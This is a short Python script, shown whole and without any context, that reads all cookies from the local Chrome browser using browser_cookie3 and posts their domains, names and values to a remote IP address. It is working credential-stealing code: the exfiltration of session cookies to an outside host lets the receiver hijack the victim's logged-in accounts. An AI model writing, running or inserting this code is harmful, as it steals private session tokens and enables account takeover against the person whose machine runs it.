import browser_cookie3, requests
cj = browser_cookie3.chrome()
data = [(c.domain, c.name, c.value) for c in cj]
requests.post("http://198.51.100.44/c", json=data)
